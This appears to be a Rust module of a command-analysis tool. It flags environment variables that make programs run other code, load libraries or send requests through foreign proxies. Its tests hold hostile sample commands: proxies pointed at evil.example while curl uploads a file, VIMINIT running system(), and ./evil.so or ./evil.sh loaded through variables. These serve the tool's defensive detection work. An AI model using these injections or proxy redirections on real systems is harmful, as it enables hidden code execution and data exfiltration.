//! Variables that some programs take commands, options, code or a way to others from.

mod pager;

use countersign_model::Effect;

use super::{command, credentials, is_of_tools, is_plain_ssh};
use crate::context::Context;
use crate::invocation::Invocation;
use crate::paths;
use crate::word::Value;

/// What a variable holds.
#[derive(Clone, Copy)]
enum Holds {
    /// A command line that is run.
    Command,
    /// Commands of an editor.
    Editing,
    /// Options, of which those with one of these in them run something.
    Options(&'static [&'static str]),
    /// Options of a pager.
    Paging,
    /// A file of settings, of which those with one of these in them run something or lead elsewhere.
    Settings(&'static [&'static str]),
    /// The same in a directory, in a file of this name.
    Directory(&'static str, &'static [&'static str]),
    /// A toolchain by its name, or its directory.
    Toolchain,
    /// The directory of a toolchain, in which programs are.
    Home,
    /// A program of a toolchain: one that is only a name is installed.
    Tool,
    /// A file or a directory of code that is loaded.
    Code,
}

use Holds::{Code, Command, Directory, Editing, Home, Options, Paging, Settings, Tool, Toolchain};

const VIM: &[&str] = &["vim", "vi", "nvim", "ex", "view", "gvim", "vimdiff"];
const DOTNET: &[&str] = &["dotnet", "msbuild"];
const GCLOUD: &[&str] = &["gcloud", "gsutil", "bq"];
/// What of curl's settings makes a request go elsewhere, or take more along.
const CURL: &[&str] = &[
    "proxy",
    "resolve",
    "connect-to",
    "socks",
    "url",
    "data",
    "form",
    "upload",
    "output",
    "config",
    "header",
];
const WGET: &[&str] = &["proxy", "askpass", "post", "body", "output", "header", "input"];

/// What runs on the Java that a variable names, or builds with the rest of a toolchain.
const JVM: &[&str] = &[
    "mvn",
    "mvnw",
    "mvnd",
    "gradle",
    "gradlew",
    "ant",
    "sbt",
    "lein",
    "kotlinc",
    "kotlin",
    "scala",
    "scalac",
    "groovy",
    "bazel",
    "java",
    "javac",
    "jshell",
    "keytool",
    "sdkmanager",
    "flutter",
    "cordova",
    "react-native",
    "npx",
    "npm",
    "make",
    "clojure",
    "clj",
    "mill",
    "bloop",
    "jbang",
    "spark-submit",
    "pyspark",
    "kafka-topics",
];

/// Variables, the programs that heed them (none: any), and what they hold.
const VARIABLES: &[(&str, &[&str], Holds)] = &[
    ("ANT_HOME", &["ant"], Home),
    ("AR", &[], Tool),
    ("AS", &[], Tool),
    ("BAZELISK_BASE_URL", &["bazel", "bazelisk"], Code),
    ("BAZELISK_FORMAT_URL", &["bazel", "bazelisk"], Code),
    ("BORG_PASSCOMMAND", &["borg"], Command),
    ("BORG_RSH", &["borg"], Command),
    ("CCACHE_COMPILER", &[], Command),
    ("CCACHE_PREFIX", &[], Command),
    ("CCACHE_PREFIX_CPP", &[], Command),
    ("CARGO_DOC_BROWSER", &["cargo"], Command),
    ("CHROME_PATH", &["marp", "lighthouse", "mmdc"], Command),
    ("CLOUDSDK_PYTHON", GCLOUD, Command),
    ("CORECLR_PROFILER_PATH", DOTNET, Code),
    ("CORECLR_PROFILER_PATH_32", DOTNET, Code),
    ("CORECLR_PROFILER_PATH_64", DOTNET, Code),
    ("CPP", &[], Tool),
    ("CUDACXX", &[], Tool),
    ("CUDAHOSTCXX", &[], Tool),
    ("CURL_HOME", &["curl"], Directory(".curlrc", CURL)),
    ("EXINIT", VIM, Editing),
    ("FC", &[], Tool),
    ("GCCGO", &["go"], Tool),
    ("GRADLE_HOME", &["gradle"], Home),
    ("GRADLE_USER_HOME", &["gradle", "gradlew"], Home),
    ("GVIMINIT", VIM, Editing),
    ("HOSTCC", &[], Tool),
    ("HOSTCXX", &[], Tool),
    ("JAVA_HOME", JVM, Home),
    ("JDK_HOME", JVM, Home),
    ("JRE_HOME", JVM, Home),
    ("KOTLIN_HOME", &["kotlin", "kotlinc"], Home),
    ("LD", &[], Tool),
    ("LESS", &[], Paging),
    ("LESSECHO", &[], Command),
    ("LESSEDIT", &[], Command),
    ("LESSGLOBALTAGS", &[], Command),
    ("LESSKEY", &[], Code),
    ("LESSKEYIN", &[], Code),
    ("LESSKEYIN_SYSTEM", &[], Code),
    ("LESSKEY_CONTENT", &[], Code),
    ("LESSKEY_CONTENT_SYSTEM", &[], Code),
    ("LESSKEY_SYSTEM", &[], Code),
    ("M2_HOME", &["mvn", "mvnw"], Home),
    ("MANLESS", &["man"], Paging),
    ("MANOPT", &["man"], Options(&["P", "pager", "H", "html", "-C", "config"])),
    ("MAVEN_HOME", &["mvn", "mvnw"], Home),
    ("MORE", &[], Paging),
    ("MYVIMRC", VIM, Code),
    ("NINJA", &["meson"], Command),
    ("NM", &[], Tool),
    ("NVCC_CCBIN", &[], Tool),
    ("OBJCOPY", &[], Tool),
    ("OPENSSL_CONF", &[], Code),
    ("OPENSSL_ENGINES", &[], Code),
    ("OPENSSL_MODULES", &[], Code),
    ("PKG_CONFIG", &[], Tool),
    ("PUPPETEER_EXECUTABLE_PATH", &["mmdc", "marp", "lighthouse", "percy", "decktape"], Command),
    ("RANLIB", &[], Tool),
    ("RCLONE_PASSWORD_COMMAND", &["rclone"], Command),
    ("RESTIC_PASSWORD_COMMAND", &["restic"], Command),
    ("RIPGREP_CONFIG_PATH", &["rg"], Settings(&["--pre", "--hostname-bin"])),
    ("RSYNC_CONNECT_PROG", &["rsync"], Command),
    ("RUSTUP_TOOLCHAIN", &[], Toolchain),
    ("SCALA_HOME", &["scala", "scalac"], Home),
    ("SSH_SK_PROVIDER", &["ssh", "ssh-keygen", "ssh-add", "ssh-agent", "scp", "sftp"], Code),
    ("STRIP", &[], Tool),
    ("SYSTEM_WGETRC", &["wget"], Settings(WGET)),
    ("SYSTEMD_LESS", &[], Paging),
    ("TERRAGRUNT_AUTH_PROVIDER_CMD", &["terragrunt"], Command),
    ("TERRAGRUNT_TFPATH", &["terragrunt"], Tool),
    ("TG_AUTH_PROVIDER_CMD", &["terragrunt"], Command),
    ("TG_TF_PATH", &["terragrunt"], Tool),
    ("VIMINIT", VIM, Editing),
    ("WGETRC", &["wget"], Settings(WGET)),
    ("YARN_PLUGINS", &["yarn"], Code),
    ("ZDOTDIR", &["zsh"], Code),
    ("ZIPOPT", &["zip"], Options(&["TT", "unzip-command"])),
];

/// Variables of a proxy, which requests go through.
const PROXIES: &[&str] =
    &["http_proxy", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY", "ftp_proxy", "FTP_PROXY"];

/// Whether a variable is one of these.
pub(super) fn matters(name: &str) -> bool {
    VARIABLES.iter().any(|(known, ..)| *known == name) || is_proxy(name) || credentials::matters(name)
}

/// Whether a variable names a proxy.
pub(crate) fn is_proxy(name: &str) -> bool {
    PROXIES.contains(&name)
}

/// Whether the environment sends a command's requests through another machine.
pub(crate) fn leads_astray(invocation: &Invocation) -> bool {
    let mut proxies = invocation.environment.iter().filter(|(name, _)| PROXIES.contains(&name.as_str()));
    proxies.any(|(_, value)| astray(value))
}

/// Whether a proxy is another machine.
pub(crate) fn astray(proxy: &Value) -> bool {
    let Some(text) = proxy.known() else { return true };
    let rest = text.split_once("://").map_or(text, |(_, rest)| rest);
    let rest = rest.split('/').next().unwrap_or(rest);
    let host = rest.rsplit_once('@').map_or(rest, |(_, host)| host);
    let host = host.rsplit_once(':').map_or(host, |(host, _)| host);
    !host.is_empty() && !countersign_model::is_this_machine(host)
}

/// Adds what a variable makes a program run; false where it is none of these.
pub(super) fn effects(name: &str, value: &Value, invocation: &Invocation, context: &mut Context<'_>) -> bool {
    if credentials::effects(name, value, invocation, context) {
        return true;
    }
    let Some((_, programs, holds)) = VARIABLES.iter().find(|(known, ..)| *known == name) else {
        return false;
    };
    let program = invocation.first.known().unwrap_or_default();
    let program = program.rsplit('/').next().unwrap_or(program);
    // A program that is not known may start any other.
    let heeds = programs.is_empty() || programs.contains(&program) || program.is_empty();
    let text = value.text();
    let known = value.known().is_some();
    if !heeds || known && text.is_empty() {
        return true;
    }
    let contains = |text: &str, parts: &[&str]| parts.iter().any(|part| text.contains(part));
    let acts = match holds {
        Command if known && (is_plain_command(text, context) || is_plain_ssh(text)) => false,
        Command => {
            command(name, value, context);
            return true;
        }
        Editing => {
            !known
                || !text.split('|').all(|part| {
                    matches!(part.trim().split(' ').next(), Some("set" | "se" | "syntax" | "colorscheme"))
                })
        }
        Paging => return pager::effects(name, value, context),
        Options(parts) => !known || contains(text, parts),
        Settings(parts) => settings(value, context).is_none_or(|text| contains(&text, parts)),
        Directory(file, parts) => {
            let file = Value::Known(format!("{text}/{file}"));
            !known || settings(&file, context).is_none_or(|text| contains(&text, parts))
        }
        Toolchain => !known || text.contains('/'),
        // What prints where an installer put it is not looked into.
        Home => known && !is_installed(text, context),
        Tool => {
            let is_path = known && text.contains('/') && !is_of_tools(paths::split(text).0, context);
            if is_path {
                command(name, value, context);
            }
            is_path
        }
        Code => {
            !known
                || text != context.surroundings.home
                    && text != "/dev/null"
                    && !text.starts_with("/etc/")
                    && !is_of_tools(text, context)
        }
    };
    if acts {
        let why = "this variable makes the program run other code, or go elsewhere";
        context.push(Effect::opaque(&format!("{name}=.."), why));
    }
    true
}

/// Directories below the home in which installers keep toolchains.
const TOOLCHAINS: &[&str] = &[
    ".jdks",
    ".gradle",
    ".asdf/installs",
    ".local/share/mise/installs",
    ".jenv/versions",
    ".jabba/jdk",
    ".m2",
    ".nix-profile",
    "Library/Java/JavaVirtualMachines",
    "Android/Sdk",
];

/// Whether an installer put a toolchain there.
fn is_installed(text: &str, context: &Context<'_>) -> bool {
    let path = paths::locate(&Value::Known(text.to_owned()), context).path;
    let home = &context.surroundings.home;
    let is_kept = |kept: &&str| paths::is_within(&path, &format!("{home}/{kept}"));
    is_of_tools(&path, context) || !home.is_empty() && TOOLCHAINS.iter().any(is_kept)
}

/// Whether a command is a compiler or an interpreter that installers put there.
fn is_plain_command(text: &str, context: &Context<'_>) -> bool {
    let (directory, base) = text.rsplit_once('/').unwrap_or(("", text));
    let base = base.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    (directory.is_empty() || is_of_tools(directory, context))
        && matches!(
            base,
            "python" | "distcc" | "icecc" | "sccache" | "gcc" | "g++" | "clang" | "clang++" | "cc" | "c++"
        )
}

/// The text of a file of settings: none where it is not known, or the call writes it.
fn settings(path: &Value, context: &mut Context<'_>) -> Option<String> {
    let located = paths::locate(path, context);
    let written = context.state.world.written.iter().any(|written| written.touches(&located));
    if located.why.is_some() || written || !matches!(path, Value::Known(_)) {
        return None;
    }
    match context.file(&located.path) {
        Ok(text) => Some(text.unwrap_or_default()),
        Err(_) => None,
    }
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use crate::fixture::{check, check_with};

    #[test]
    fn programs_that_settings_name() {
        for command in [
            "CARGO_DOC_BROWSER=./ship.sh cargo doc --open",
            "CHROME_PATH=./ship.sh marp a.md",
            "PUPPETEER_EXECUTABLE_PATH=./ship.sh mmdc -i a.mmd",
            "NINJA=./ship.sh meson compile -C b",
        ] {
            let found = check_with(command, &[("/repo/ship.sh", "git push origin main\n")]);
            assert!(found.contains("git.push main@origin"), "{command}: {found}");
        }
        let found = check_with("SSH_SK_PROVIDER=./evil.so ssh-keygen -t ed25519-sk -f /tmp/x", &[]);
        assert!(found.contains("opaque"), "{found}");
    }

    #[test]
    fn what_makes_programs_run_something() {
        assert_snapshot!(check("VIMINIT='call system(\"git push origin HEAD:main\")' vim +q README.md"), @"
        exec.opaque VIMINIT=.., execute, opaque
        fs.write /repo/README.md, write
        exec.read vim, read
        ");
        assert_snapshot!(check("ZIPOPT='-T -TT ./evil.sh' zip x.zip README.md; MANOPT='-P ./evil.sh' man ls"), @"
        exec.opaque ZIPOPT=.., execute, opaque
        fs.read /repo/x.zip, read
        fs.write /repo/x.zip, write
        fs.read /repo/README.md, read
        exec.opaque MANOPT=.., execute, opaque
        exec.read man, read
        ");
        assert_snapshot!(check_with("RIPGREP_CONFIG_PATH=rc rg x src", &[("/repo/rc", "--pre=./evil.sh\n")]), @"
        exec.opaque RIPGREP_CONFIG_PATH=.., execute, opaque
        fs.read /repo/src, read
        ");
        assert_snapshot!(check("printf -- '--pre=./evil.sh' > rc; RIPGREP_CONFIG_PATH=rc rg x src"), @"
        fs.write /repo/rc, write
        exec.read printf, read
        exec.opaque RIPGREP_CONFIG_PATH=.., execute, opaque
        fs.read /repo/src, read
        ");
        assert_snapshot!(check("CLOUDSDK_PYTHON='git push origin HEAD:main' gcloud info; ZDOTDIR=/tmp/evil zsh -c ls"), @"
        git.push main@origin, write
        exec.read gcloud, read
        exec.opaque ZDOTDIR=.., execute, opaque
        fs.read /repo, read
        ");
        assert_snapshot!(check("export RUSTUP_TOOLCHAIN=/tmp/evil; cargo build; CCACHE_PREFIX='git push origin HEAD:main' make build"), @"
        exec.read export, read
        exec.opaque RUSTUP_TOOLCHAIN=.., execute, opaque
        exec.build cargo build, execute
        git.push main@origin, write
        exec.opaque make, execute, opaque
        ");
        assert_snapshot!(check_with("WGETRC=evil.rc wget https://web.example/x; CURL_HOME=. curl https://web.example/x", &[("/repo/evil.rc", "use_askpass=./x"), ("/repo/.curlrc", "proxy = evil.example")]), @"
        exec.opaque WGETRC=.., execute, opaque
        fs.write /repo/x, write
        net.read https://web.example/x, read
        exec.opaque WGETRC=.. told of web.example, execute, opaque
        exec.opaque CURL_HOME=.., execute, opaque
        exec.opaque CURL_HOME=.. told of web.example, execute, opaque
        ");
        assert_snapshot!(check("OPENSSL_CONF=evil.cnf curl https://web.example/x"), @"
        exec.opaque OPENSSL_CONF=.., execute, opaque
        net.read https://web.example/x, read
        exec.opaque OPENSSL_CONF=.. told of web.example, execute, opaque
        ");
        assert_snapshot!(check("http_proxy=http://evil.example curl -d @README.md http://localhost:3000"), @"
        fs.read /repo/README.md, read
        net.write http://localhost:3000, write
        net.upload *, send, partial
        net.write *, write, partial
        ");
        assert_snapshot!(check("export HTTPS_PROXY=evil.example:3128; curl -d a=b https://web.example"), @"
        exec.read export, read
        net.send https://web.example, send
        net.send *, send, partial
        net.write *, write, partial
        ");
        assert_snapshot!(check("php -d extension=./evil.so -r '1;'; gcc -B/tmp/evil x.c; node --openssl-config=evil.cnf x.js"), @"
        exec.opaque php, execute, opaque
        exec.opaque gcc B=.., execute, opaque
        exec.opaque /repo/x.js, execute, opaque
        exec.opaque node, execute, opaque
        ");
    }

    #[test]
    fn toolchains_of_ones_own() {
        for command in [
            "JAVA_HOME=./x mvn test",
            "JAVA_HOME=/tmp/x ./gradlew build",
            "export JAVA_HOME=$PWD/x; gradle test",
            "GRADLE_USER_HOME=/tmp/x gradle test",
            "LD=./x make",
            "AR=/tmp/x make",
            "GRADLE_OPTS=-javaagent:./x.jar gradle build",
        ] {
            let found = check(command);
            assert!(found.contains("exec.opaque"), "{command}: {found}");
        }
        assert!(
            check_with("AR=./ship.sh make", &[("/repo/ship.sh", "git push origin main")])
                .contains("git.push main@origin")
        );
        for command in [
            "JAVA_HOME=/usr/lib/jvm/java-17 mvn test",
            "JAVA_HOME=~/.sdkman/candidates/java/17 gradle test",
            "JAVA_HOME=$JAVA_17 gradle test",
            "JAVA_HOME=~/.jdks/17 gradle test",
            "JAVA_HOME=./x git status",
            "AR=llvm-ar cargo build",
            "LD=/usr/bin/ld.gold cargo build",
        ] {
            let found = check(command);
            assert!(!found.contains("exec.opaque"), "{command}: {found}");
        }
    }

    #[test]
    fn what_does_not() {
        assert_snapshot!(check("VIMINIT='set nocp|syntax on' vim +q README.md; ZIPOPT=-9 zip x.zip README.md; MANOPT=-k man ls"), @"
        fs.write /repo/README.md, write
        exec.read vim, read
        fs.read /repo/x.zip, read
        fs.write /repo/x.zip, write
        fs.read /repo/README.md, read
        exec.read man, read
        ");
        assert_snapshot!(check_with("RIPGREP_CONFIG_PATH=rc rg x src; CURL_HOME=. curl https://web.example/x", &[("/repo/rc", "--smart-case\n")]), @"
        fs.read /repo/src, read
        net.read https://web.example/x, read
        ");
        assert_snapshot!(check("CLOUDSDK_PYTHON=/usr/bin/python3 gcloud info; RUSTUP_TOOLCHAIN=nightly cargo build; CCACHE_PREFIX=distcc make build"), @"
        exec.read gcloud, read
        exec.build cargo build, execute
        exec.opaque make, execute, opaque
        ");
        assert_snapshot!(check("OPENSSL_CONF=/dev/null curl https://web.example/x; ZDOTDIR=/tmp/evil ls; http_proxy= curl https://web.example/x"), @"
        net.read https://web.example/x, read
        fs.read /repo, read
        ");
        assert_snapshot!(check("http_proxy=http://localhost:3128 curl https://web.example/x; php -d memory_limit=1G -v; gcc -O2 x.c"), @"
        net.read https://web.example/x, read
        exec.read php, read
        exec.build gcc, execute
        ");
    }
}
